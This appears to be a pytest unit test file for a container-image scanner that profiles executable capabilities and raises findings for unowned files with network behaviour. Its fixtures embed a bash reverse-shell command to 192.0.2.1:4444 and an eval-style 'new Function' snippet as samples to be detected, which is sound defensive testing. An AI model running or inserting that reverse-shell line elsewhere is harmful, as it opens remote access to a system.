"""What programs can do, read once more and kept."""

import io

import pytest
from tests.support.images import File, make_layer
from tests.unit.layers.helpers import CATALOGERS, OS_RELEASE, status

from careen.errors import NetworkError
from careen.layers.index import Readers
from careen.model.image import Image, ImageConfig, Layer
from careen.model.inventory import Inventory
from careen.model.package import Evidence, Package
from careen.pipeline import examination
from careen.pipeline.examination import with_examined
from careen.pipeline.layers import Reading
from careen.store.memory import MemoryStore

SHELL = b"#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"
FILES = {
    "etc/os-release": OS_RELEASE,
    "var/lib/dpkg/status": status(("tool", "1")),
    "var/lib/dpkg/info/tool.list": b"/usr/bin/tool\n",
    "usr/bin/tool": File(SHELL, mode=0o755),
    "opt/run": File(SHELL, mode=0o755),
}


class Opened:
    def __init__(self, files=FILES):
        data, self.count = make_layer(files), 0

        def again():
            self.count += 1
            return io.BytesIO(data)

        layer = Layer(0, "", "", len(data), "", again, identity="here")
        self.image = Image("shop:1", "image", "sha256:1", None, ImageConfig(), (layer,))


def reading(store=None):
    return Reading(Readers.of(CATALOGERS, "test"), store or MemoryStore())


def test_files_of_no_package_have_findings():
    found = with_examined(Opened().image, Inventory(None, ()), reading()).examined
    assert [(profile.path, profile.package) for profile in found.profiles] == [("opt/run", "")]
    assert [(finding.id, finding.location.path) for finding in found.findings] == [("CAP-103", "opt/run")]


def test_all_files_have_a_profile_and_those_of_the_distribution_no_finding():
    found = with_examined(Opened().image, Inventory(None, ()), reading(), all_files=True).examined
    assert [profile.path for profile in found.profiles] == ["opt/run", "usr/bin/tool"]
    assert all("net/connect" in profile.capabilities for profile in found.profiles)
    assert [finding.location.path for finding in found.findings] == ["opt/run"]


def test_the_result_is_kept():
    store, opened = MemoryStore(), Opened()
    first = with_examined(opened.image, Inventory(None, ()), reading(store))
    count = opened.count
    assert with_examined(opened.image, Inventory(None, ()), reading(store)) == first
    assert opened.count == count
    with_examined(opened.image, Inventory(None, ()), reading(store), all_files=True)
    assert opened.count > count


def test_layers_that_cannot_be_read_again_leave_it_unknown():
    opened, layers = Opened(), []

    def fails():
        layers.append(1)
        raise NetworkError("gone")

    layer = Layer(0, "", "", 10, "", fails, identity="there")
    image = Image("shop:1", "image", "sha256:1", None, ImageConfig(), (layer,))
    assert with_examined(image, Inventory(None, ()), reading()).examined is None
    assert layers
    assert with_examined(Image("a", "sbom", "", None, ImageConfig(), ()), Inventory(None, ()), reading()).examined is None
    assert opened.count == 0


EVALUATES = b"const made = new Function('a', text);\n"


def test_code_of_packages_is_not_the_applications():
    pytest.importorskip("tree_sitter_javascript")
    files = {
        "srv/app/package.json": b'{"name": "shop", "version": "1.0.0"}',
        "srv/app/server.js": EVALUATES,
        "srv/app/types.d.ts": EVALUATES,
        "srv/app/node_modules/left/package.json": b'{"name": "left", "version": "1.0.0"}',
        "srv/app/node_modules/left/index.js": EVALUATES,
    }
    package = Package("npm", None, "left", "1.0.0", evidence=(Evidence("srv/app/node_modules/left/package.json", 0),))
    found = with_examined(Opened(files).image, Inventory(None, (package,)), reading()).examined
    assert [(finding.id, finding.location.path) for finding in found.findings] == [("COD-002", "srv/app/server.js")]
    assert {profile.path: profile.package for profile in found.profiles} == {
        "srv/app/node_modules/left/index.js": "pkg:npm/left@1.0.0",
        "srv/app/node_modules/left/package.json": "pkg:npm/left@1.0.0",
        "srv/app/package.json": "",
        "srv/app/server.js": "",
        "srv/app/types.d.ts": "",
    }


def test_what_is_beyond_a_bound_is_counted(monkeypatch):
    for name in ("MAX_FINDINGS", "MAX_PROFILES"):
        monkeypatch.setattr(examination, name, 1)
    shell = b"bash -i >& /dev/tcp/192.0.2.1/4444\n"
    files = {f"opt/{name}.sh": b"#!/bin/sh\n" + shell for name in "abc"}
    found = with_examined(Opened(files).image, Inventory(None, ()), reading()).examined
    assert (found.files, len(found.profiles), found.more_profiles) == (3, 1, 2)
    assert (len(found.findings), found.more_findings) == (1, 2)


def test_source_that_is_not_understood_has_a_profile_and_is_stated(monkeypatch):
    monkeypatch.setattr(examination, "MAX_UNREAD", 1)
    broken = b"import socket\nsocket.create_connection(\n"
    found = with_examined(Opened({"opt/a.py": broken, "opt/b.py": broken}).image, Inventory(None, ()), reading()).examined
    assert [profile.capabilities for profile in found.profiles] == [("net/connect",), ("net/connect",)]
    assert [(file.path, file.layer) for file in found.unread] == [("opt/a.py", 0)]
    assert found.more_unread == 1
